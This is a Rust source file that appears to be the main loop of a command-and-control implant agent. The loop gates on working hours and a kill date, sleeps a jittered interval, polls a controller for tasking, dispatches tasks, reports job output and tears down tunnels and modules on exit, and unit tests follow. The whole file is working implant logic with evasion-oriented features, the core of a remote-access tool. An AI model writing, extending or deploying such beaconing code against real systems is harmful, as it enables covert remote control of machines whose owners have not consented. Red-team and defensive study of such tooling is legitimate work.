//! Main agent loop — the check-in state machine.
//!
//! One cooperative loop drives the agent: gate on working hours, gate on the
//! kill date, enforce the lost-checkin budget, sleep a jittered interval,
//! flush buffered job output, poll the transport, and hand any real tasking
//! to the dispatcher. Every cycle error is caught and logged; only the three
//! terminal conditions (kill date, lost limit, explicit exit task) stop the
//! loop — plus Ctrl-C as the operator's way out of the binary.

use std::fmt;
use std::sync::Arc;

use chrono::Local;

use crate::agent::Disposition;
use crate::config::AgentConfig;
use crate::jobs::{JobTable, OutputBuffer};
use crate::modules::ModuleRepository;
use crate::packet::{RESPONSE_JOB_OUTPUT, ResponseChannel, TaskPacket};
use crate::script::ScriptEngine;
use crate::tasks::tunnel::TunnelSlot;
use crate::transport::Transport;

/// Why the loop ended. The first three are protocol conditions; `Interrupted`
/// is an operator Ctrl-C.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExitReason {
    KillDate,
    LostLimit,
    ExitTask,
    Interrupted,
}

impl fmt::Display for ExitReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ExitReason::KillDate => write!(f, "kill date reached"),
            ExitReason::LostLimit => write!(f, "lost-checkin budget exhausted"),
            ExitReason::ExitTask => write!(f, "exit task received"),
            ExitReason::Interrupted => write!(f, "interrupted"),
        }
    }
}

/// The agent runtime. All shared state lives here and is passed by reference
/// to handlers; there are no process-wide globals.
pub struct Agent {
    pub(crate) config: AgentConfig,
    pub(crate) transport: Arc<dyn Transport>,
    pub(crate) responses: ResponseChannel,
    pub(crate) jobs: Arc<JobTable>,
    pub(crate) modules: Arc<ModuleRepository>,
    pub(crate) script: ScriptEngine,
    pub(crate) output: OutputBuffer,
    pub(crate) tunnel: TunnelSlot,
    missed_checkins: u32,
}

impl Agent {
    pub fn new(config: AgentConfig, transport: Arc<dyn Transport>) -> Self {
        let responses = ResponseChannel::new(Arc::clone(&transport));
        let script = ScriptEngine::from_config(&config);
        let modules = Arc::new(ModuleRepository::new(&config.session_id));

        Self {
            config,
            transport,
            responses,
            jobs: Arc::new(JobTable::new()),
            modules,
            script,
            output: OutputBuffer::new(),
            tunnel: TunnelSlot::new(),
            missed_checkins: 0,
        }
    }

    // ── Accessors (used by the binary and integration tests) ─────────

    pub fn config(&self) -> &AgentConfig {
        &self.config
    }

    pub fn jobs(&self) -> &Arc<JobTable> {
        &self.jobs
    }

    pub fn modules(&self) -> &Arc<ModuleRepository> {
        &self.modules
    }

    pub fn job_output(&self) -> &OutputBuffer {
        &self.output
    }

    // ── Main loop ───────────────────────────────────────────────────

    /// Run the check-in loop until a terminal condition.
    pub async fn run(mut self) -> ExitReason {
        tracing::info!(session = %self.config.session_id, "Agent entering check-in loop");

        let reason = loop {
            tokio::select! {
                biased;
                _ = tokio::signal::ctrl_c() => {
                    tracing::info!("Ctrl+C received, shutting down...");
                    break ExitReason::Interrupted;
                }
                outcome = self.cycle() => {
                    if let Some(reason) = outcome {
                        break reason;
                    }
                }
            }
        };

        self.shutdown().await;
        tracing::info!(%reason, "Agent loop ended");
        reason
    }

    /// One full check-in cycle. Returns a reason only on a terminal
    /// condition; every other failure is logged and absorbed.
    async fn cycle(&mut self) -> Option<ExitReason> {
        // 1. Working-hours gate: block until the window opens.
        if let Some(hours) = self.config.working_hours
            && let Some(wait) = hours.until_open(Local::now().time())
        {
            tracing::info!(?wait, "Outside working hours, waiting for window");
            tokio::time::sleep(wait).await;
        }

        // 2. Kill-date gate: one exit notice, then terminate.
        if let Some(kill_date) = self.config.kill_date
            && Local::now().date_naive() >= kill_date
        {
            let notice = format!("agent {} exiting", self.config.session_id);
            if let Err(e) = self.responses.send(2, &notice, "").await {
                tracing::warn!("Failed to send kill-date exit notice: {e}");
            }
            return Some(ExitReason::KillDate);
        }

        // 3. Lost-checkin budget.
        if self.missed_checkins >= self.config.lost_limit {
            return Some(ExitReason::LostLimit);
        }

        // 4-5. Jittered sleep.
        tokio::time::sleep(self.config.sleep_interval()).await;

        // 6. Flush buffered job output.
        self.flush_job_output().await;

        // 7-8. Poll for tasking and dispatch anything real.
        match self.transport.fetch_tasking().await {
            Ok(tasking) if tasking.status == 200 => {
                if self.is_default_response(&tasking.body) {
                    self.missed_checkins += 1;
                    tracing::debug!(missed = self.missed_checkins, "No new tasking");
                } else {
                    self.missed_checkins = 0;
                    if let Disposition::Exit = self.process_body(&tasking.body).await {
                        return Some(ExitReason::ExitTask);
                    }
                }
            }
            Ok(tasking) => {
                self.missed_checkins += 1;
                tracing::warn!(
                    status = tasking.status,
                    missed = self.missed_checkins,
                    "Controller returned non-success status"
                );
            }
            Err(e) => {
                self.missed_checkins += 1;
                tracing::warn!(missed = self.missed_checkins, "Check-in failed: {e}");
            }
        }

        if self.missed_checkins >= self.config.lost_limit {
            return Some(ExitReason::LostLimit);
        }
        None
    }

    /// The controller's default body is the "no new tasking" sentinel.
    fn is_default_response(&self, body: &[u8]) -> bool {
        body.trim_ascii() == self.config.default_response.trim().as_bytes()
    }

    /// Emit buffered job output as a single type-110 response. A failed send
    /// puts the text back so the next cycle retries it.
    pub(crate) async fn flush_job_output(&self) {
        if self.output.is_empty().await {
            return;
        }
        let text = self.output.drain().await;
        if let Err(e) = self.responses.send(RESPONSE_JOB_OUTPUT, &text, "").await {
            tracing::warn!("Failed to flush job output, keeping buffer: {e}");
            self.output.restore(text).await;
        }
    }

    /// Parse a tasking body and dispatch it. A body that is not a packet is a
    /// protocol error, reported on the error channel.
    async fn process_body(&self, body: &[u8]) -> Disposition {
        match TaskPacket::parse(body) {
            Ok(packet) => self.dispatch(&packet).await,
            Err(e) => {
                tracing::warn!("Malformed task packet: {e}");
                self.send_error(&format!("malformed task packet: {e}"), "")
                    .await;
                Disposition::Continue
            }
        }
    }

    /// Best-effort teardown on any terminal path.
    async fn shutdown(&self) {
        self.jobs.stop_all().await;
        self.tunnel.stop().await;
        self.modules.clear().await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::transport::QueueTransport;

    fn test_agent(config: AgentConfig) -> (Agent, Arc<QueueTransport>) {
        let transport = Arc::new(QueueTransport::new());
        let agent = Agent::new(config, transport.clone());
        (agent, transport)
    }

    #[test]
    fn test_default_response_detection() {
        let (agent, _) = test_agent(AgentConfig::default());
        assert!(agent.is_default_response(b""));
        assert!(agent.is_default_response(b"  \n"));
        assert!(!agent.is_default_response(b"{\"type\":1}"));
    }

    #[test]
    fn test_custom_default_response_sentinel() {
        let config = AgentConfig {
            default_response: "nothing to do".to_string(),
            ..AgentConfig::default()
        };
        let (agent, _) = test_agent(config);
        assert!(agent.is_default_response(b"nothing to do"));
        assert!(agent.is_default_response(b" nothing to do \n"));
        assert!(!agent.is_default_response(b""));
    }

    #[tokio::test]
    async fn test_flush_emits_single_type_110_and_clears() {
        let (agent, transport) = test_agent(AgentConfig::default());
        agent.output.append("job said something").await;
        agent.flush_job_output().await;
        agent.flush_job_output().await; // empty buffer, no second packet

        let packets = transport.sent_packets().await;
        assert_eq!(packets.len(), 1);
        assert_eq!(packets[0].kind, RESPONSE_JOB_OUTPUT);
        assert_eq!(packets[0].data, "job said something\n");
        assert!(agent.output.is_empty().await);
    }

    #[tokio::test]
    async fn test_malformed_body_reports_protocol_error() {
        let (agent, transport) = test_agent(AgentConfig::default());
        let disposition = agent.process_body(b"definitely not json").await;
        assert_eq!(disposition, Disposition::Continue);

        let packets = transport.sent_packets().await;
        assert_eq!(packets.len(), 1);
        assert_eq!(packets[0].kind, 0);
        assert!(packets[0].data.contains("malformed task packet"));
    }
}
